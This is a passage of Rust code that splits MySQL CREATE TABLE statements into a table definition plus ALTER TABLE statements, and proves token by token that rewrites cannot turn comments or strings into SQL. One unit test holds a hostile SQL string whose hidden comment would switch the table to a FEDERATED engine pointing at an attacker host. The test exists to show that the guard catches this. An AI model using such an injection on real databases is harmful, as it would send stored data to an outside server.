    name: &str,
) -> Result<String> {
    let q = |s: &str| MYSQL.quote_ident(s);
    let show = sqlx::query(sqlx::AssertSqlSafe(format!(
        "SHOW CREATE TABLE {}.{}",
        q(schema),
        q(table)
    )))
    .fetch_one(&mut *conn)
    .await
    .map_err(|e| db(format!("reading the definition of {schema}.{table}"), e))?;
    let bytes = show
        .try_get_unchecked::<Vec<u8>, _>(1)
        .map_err(|e| db("reading a definition", e))?;
    let text = String::from_utf8_lossy(&bytes).into_owned();
    let prefix = format!("CONSTRAINT {} ", q(name));
    text.lines()
        .map(str::trim)
        .filter_map(|l| l.strip_prefix(&prefix))
        .find(|d| d.starts_with("FOREIGN KEY"))
        .map(|d| d.trim_end_matches(',').to_string())
        .ok_or_else(|| {
            Error::Usage(format!(
                "foreign key {name} of {schema}.{table} was not found in its definition"
            ))
        })
}

/// Whether a top-level element of a `CREATE TABLE` is a secondary index or a foreign key:
/// `[UNIQUE] KEY|INDEX ...`, `[CONSTRAINT name] FOREIGN KEY ...`.
fn is_secondary(element: &[Token]) -> bool {
    let w = |i: usize, kw: &str| element.get(i).is_some_and(|t| t.is_word(kw));
    let key = |i: usize| w(i, "KEY") || w(i, "INDEX");
    key(0) || (w(0, "UNIQUE") && key(1)) || is_foreign_key(element)
}

/// Whether an element of a `CREATE TABLE` is a foreign key: `[CONSTRAINT name] FOREIGN KEY`.
fn is_foreign_key(element: &[Token]) -> bool {
    let w = |i: usize, kw: &str| element.get(i).is_some_and(|t| t.is_word(kw));
    (w(0, "FOREIGN") && w(1, "KEY"))
        || (w(0, "CONSTRAINT")
            && element.get(1).and_then(Token::name).is_some()
            && w(2, "FOREIGN")
            && w(3, "KEY"))
}

/// The tokens of one element of a `CREATE TABLE`, read as a statement of its own.
fn element_tokens(element: &str) -> Result<Vec<Token>> {
    tokens_of(&format!("{element};"), LexerConfig::MYSQL)
}

/// Splits a `CREATE TABLE` as `SHOW CREATE TABLE` writes it (one element per line) into the
/// table with its columns, primary key and checks, and one `ALTER TABLE` that adds its
/// secondary indexes and foreign keys: (create, table, alter). `None` when it has none, or
/// when the text is not laid out so; then it runs as it is.
///
/// What runs must be what the guard read: the pieces are proven, token for token, to be the
/// statement's elements, so a comment or a string spanning lines cannot be cut into SQL.
fn split_secondary(sql: &str) -> Result<Option<Split>> {
    let all = tokens_of(sql, LexerConfig::MYSQL)?;
    // A long or non-UTF-8 string is one token whatever it holds: the proof below could not
    // tell two of them apart.
    if all.contains(&Token::Str(None)) {
        return Ok(None);
    }
    // The statement's elements: the comma-separated items inside its first parentheses.
    let Some(open) = all.iter().position(|t| *t == Token::Symbol("(")) else {
        return Ok(None);
    };
    let Some(table) = all[..open].iter().rev().find_map(Token::name) else {
        return Ok(None);
    };
    let mut elements: Vec<(usize, usize)> = Vec::new();
    let (mut depth, mut start, mut close) = (0usize, open + 1, None);
    for (i, t) in all.iter().enumerate().skip(open) {
        match t {
            Token::Symbol("(") => depth += 1,
            Token::Symbol(")") => {
                depth -= 1;
                if depth == 0 {
                    elements.push((start, i));
                    close = Some(i);
                    break;
                }
            }
            Token::Symbol(",") if depth == 1 => {
                elements.push((start, i));
                start = i + 1;
            }
            _ => {}
        }
    }
    if close.is_none() {
        return Ok(None);
    }
    let secondary: Vec<(usize, usize)> = elements
        .iter()
        .copied()
        .filter(|&(a, b)| is_secondary(&all[a..b]))
        .collect();
    // The first element (a column) stays, so every one moved has a comma before it.
    if secondary.is_empty() || secondary[0].0 == open + 1 {
        return Ok(None);
    }
    // InnoDB wants an AUTO_INCREMENT column to lead an index: where the primary key does not
    // lead with it, the table is created whole.
    let first_name = |(a, b): (usize, usize)| all[a..b].iter().find_map(Token::name);
    let primary_first = elements
        .iter()
        .find(|&&(a, _)| all[a].is_word("PRIMARY"))
        .and_then(|&(a, b)| {
            let open = (a..b).find(|&i| all[i] == Token::Symbol("("))?;
            first_name((open, b))
        });
    let auto_outside_key = elements.iter().any(|&(a, b)| {
        matches!(all[a], Token::Quoted(_))
            && all[a..b].iter().any(|t| t.is_word("AUTO_INCREMENT"))
            && first_name((a, b)) != primary_first
    });
    if auto_outside_key {
        return Ok(None);
    }
    let mut kept_tokens = Vec::with_capacity(all.len());
    let mut at = 0;
    for &(a, b) in &secondary {
        kept_tokens.extend_from_slice(&all[at..a - 1]);
        at = b;
    }
    kept_tokens.extend_from_slice(&all[at..]);
    // The same cut on the text, by lines.
    let lines: Vec<&str> = sql.split('\n').collect();
    // A moved line holds no quote or comment, so that cutting it out cannot change how the
    // text around it reads.
    let moved: Vec<usize> = (0..lines.len())
        .filter(|&i| {
            let l = lines[i];
            !l.contains(['\'', '#']) && !l.contains("/*") && !l.contains("--")
        })
        .filter(|&i| {
            element_tokens(lines[i].trim().trim_end_matches(',')).is_ok_and(|t| is_secondary(&t))
        })
        .collect();
    if moved.len() != secondary.len() {
        return Ok(None);
    }
    let mut kept: Vec<String> = Vec::with_capacity(lines.len());
    for (i, l) in lines.iter().enumerate() {
        if moved.contains(&i) {
            continue;
        }
        if l.trim_start().starts_with(')')
            && let Some(prev) = kept.last_mut()
            && let Some(p) = prev.strip_suffix(',')
        {
            *prev = p.to_string();
        }
        kept.push(l.to_string());
    }
    let create = kept.join("\n");
    let items: Vec<&str> = moved
        .iter()
        .map(|&i| lines[i].trim().trim_end_matches(','))
        .collect();
    if tokens_of(&create, LexerConfig::MYSQL)? != kept_tokens {
        return Ok(None);
    }
    for (item, &(a, b)) in items.iter().zip(&secondary) {
        if element_tokens(item)? != all[a..b] {
            return Ok(None);
        }
    }
    let alter = |fks: bool| {
        let adds: Vec<String> = items
            .iter()
            .zip(&secondary)
            .filter(|(_, r)| is_foreign_key(&all[r.0..r.1]) == fks)
            .map(|(i, _)| format!("ADD {i}"))
            .collect();
        (!adds.is_empty()).then(|| {
            format!(
                "ALTER TABLE {} {}",
                MYSQL.quote_ident(table),
                adds.join(", ")
            )
        })
    };
    Ok(Some(Split {
        create,
        table: table.to_string(),
        indexes: alter(false),
        foreign_keys: alter(true),
    }))
}

/// A `CREATE TABLE` split by [`split_secondary`].
#[derive(Debug, PartialEq)]
struct Split {
    /// The table with its columns, primary key and checks.
    create: String,
    table: String,
    /// `ALTER TABLE` adding its secondary indexes.
    indexes: Option<String>,
    /// `ALTER TABLE` adding its foreign keys.
    foreign_keys: Option<String>,
}

/// The tokens of a `CREATE TABLE` once the foreign keys named in `left_out` are removed and
/// every reference to a table outside the SSO set is qualified with `live`.
fn expected_tokens(original: &[Token], left_out: &[String], live: &str) -> Vec<Token> {
    let mut t = original.to_vec();
    for name in left_out {
        let Some(i) = (0..t.len()).find(|&i| {
            t[i].is_word("CONSTRAINT")
                && t.get(i + 1).and_then(Token::name) == Some(name.as_str())
                && t.get(i + 2).is_some_and(|x| x.is_word("FOREIGN"))
                && t.get(i + 3).is_some_and(|x| x.is_word("KEY"))
        }) else {
            continue;
        };
        let mut depth = 0usize;
        let mut j = i;
        while j < t.len() {
            match &t[j] {
                Token::Symbol("(") => depth += 1,
                Token::Symbol(")") if depth == 0 => break,
                Token::Symbol(")") => depth -= 1,
                Token::Symbol(",") if depth == 0 => break,
                _ => {}
            }
            j += 1;
        }
        let start = if i > 0 && t[i - 1] == Token::Symbol(",") {
            i - 1
        } else {
            i
        };
        let end = if start == i && t.get(j) == Some(&Token::Symbol(",")) {
            j + 1
        } else {
            j
        };
        t.drain(start..end);
    }
    let mut out = Vec::with_capacity(t.len() + 4);
    for (k, tok) in t.iter().enumerate() {
        let after_references = k > 0 && t[k - 1].is_word("REFERENCES");
        if after_references && tok.name().is_some_and(|n| !is_sso_table(n)) {
            out.push(Token::Quoted(live.to_string()));
            out.push(Token::Symbol("."));
        }
        out.push(tok.clone());
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use zsso_core::dialect::Dialect;

    fn rewrite(sql: &str, left_out: &[String]) -> (Vec<Token>, Vec<Token>) {
        let mut r = sql.to_string();
        for n in left_out {
            r = MYSQL.strip_foreign_key(&r, n);
        }
        let want = expected_tokens(
            &tokens_of(sql, LexerConfig::MYSQL).unwrap(),
            left_out,
            "live",
        );
        (
            tokens_of(
                &r.replace("REFERENCES `sec_base`", "REFERENCES `live`.`sec_base`"),
                LexerConfig::MYSQL,
            )
            .unwrap(),
            want,
        )
    }

    #[test]
    fn secondary_indexes_and_foreign_keys_are_split_off_a_create_table() {
        let sql = "CREATE TABLE `zato_sso_x` (\n  `id` int(11) NOT NULL AUTO_INCREMENT,\n  `a` varchar(191) NOT NULL,\n  `b` text DEFAULT 'KEY `k` (`a`)',\n  PRIMARY KEY (`id`),\n  UNIQUE KEY `u` (`a`),\n  KEY `e` (`b`(767)),\n  CONSTRAINT `f` FOREIGN KEY (`a`) REFERENCES `zato_sso_y` (`a`) ON DELETE CASCADE,\n  CONSTRAINT `c` CHECK (`id` > 0)\n) ENGINE=InnoDB DEFAULT CHARSET=utf8mb4;";
        assert_eq!(
            split_secondary(sql).unwrap().unwrap(),
            Split {
                create: "CREATE TABLE `zato_sso_x` (\n  `id` int(11) NOT NULL AUTO_INCREMENT,\n  `a` varchar(191) NOT NULL,\n  `b` text DEFAULT 'KEY `k` (`a`)',\n  PRIMARY KEY (`id`),\n  CONSTRAINT `c` CHECK (`id` > 0)\n) ENGINE=InnoDB DEFAULT CHARSET=utf8mb4;".into(),
                table: "zato_sso_x".into(),
                indexes: Some("ALTER TABLE `zato_sso_x` ADD UNIQUE KEY `u` (`a`), ADD KEY `e` (`b`(767))".into()),
                foreign_keys: Some("ALTER TABLE `zato_sso_x` ADD CONSTRAINT `f` FOREIGN KEY (`a`) REFERENCES `zato_sso_y` (`a`) ON DELETE CASCADE".into()),
            }
        );
        // The last element moved: the one before it loses its comma.
        let sql = "CREATE TABLE `t` (\n  `id` int,\n  PRIMARY KEY (`id`),\n  KEY `a` (`id`)\n) ENGINE=InnoDB;";
        assert_eq!(
            split_secondary(sql).unwrap().unwrap(),
            Split {
                create: "CREATE TABLE `t` (\n  `id` int,\n  PRIMARY KEY (`id`)\n) ENGINE=InnoDB;"
                    .into(),
                table: "t".into(),
                indexes: Some("ALTER TABLE `t` ADD KEY `a` (`id`)".into()),
                foreign_keys: None,
            }
        );
    }

    #[test]
    fn a_create_table_not_laid_out_one_element_a_line_runs_as_it_is() {
        let tricky = format!(
            "CREATE TABLE `t` (\n  `id` int NOT NULL,\n  `d` varchar(4000) DEFAULT '{p}\nKEY `c` (`id`) COMMENT ', KEY `c` (`id`) /*{p}*/ COMMENT '\n{p}',\n  PRIMARY KEY (`id`)\n) ENGINE=InnoDB;",
            p = "P".repeat(1100)
        );
        // Nothing to move, all on one line, or a line that only looks like an element.
        for sql in [
            "CREATE TABLE `t` (\n  `id` int,\n  PRIMARY KEY (`id`)\n);",
            "CREATE TABLE `t` (`id` int, KEY `a` (`id`));",
            "CREATE TABLE `t` (\n  `id` int,\n  `b` text DEFAULT '\nKEY `a` (`id`),\n'\n);",
            "CREATE TABLE `t` (\n  `id` int, /*\n  KEY `a` (`id`),\n */ `c` int\n);",
            "CREATE TABLE `t` (\n  `id` int,\n  `b` text DEFAULT '\nKEY `z` (`id`),\n',\n  KEY `a` (`id`)\n);",
            // A line inside a string that reads as an element when its quotes are turned round.
            tricky.as_str(),
            // A comment on a moved line, and an AUTO_INCREMENT column no primary key leads.
            "CREATE TABLE `t` (\n  `id` int,\n  PRIMARY KEY (`id`),\n  KEY `a` (`id`) COMMENT 'x'\n);",
            "CREATE TABLE `t` (\n  `id` int,\n  `n` int NOT NULL AUTO_INCREMENT,\n  PRIMARY KEY (`id`),\n  KEY `a` (`n`)\n);",
        ] {
            assert_eq!(split_secondary(sql).unwrap(), None, "{sql}");
        }
    }

    #[test]
    fn a_rewrite_that_turns_a_comment_into_sql_is_caught() {
        let honest = "CREATE TABLE `zato_sso_x` (\n  `a` int,\n  KEY `f` (`a`),\n  CONSTRAINT `f` FOREIGN KEY (`a`) REFERENCES `sec_base` (`id`)\n) ENGINE=InnoDB;";
        let (got, want) = rewrite(honest, &["f".into()]);
        assert_eq!(got, want);
        let (got, want) = rewrite(honest, &[]);
        assert_eq!(got, want);
        let hostile = "CREATE TABLE `zato_sso_x` (`a` int,\nCONSTRAINT `f` FOREIGN KEY (`a`) REFERENCES `sec_base` (`id`)) ENGINE=InnoDB /*\n) ENGINE=FEDERATED CONNECTION='mysql://attacker:1/db/t' -- */\n;";
        let (got, want) = rewrite(hostile, &["f".into()]);
        assert_ne!(got, want);
    }
}
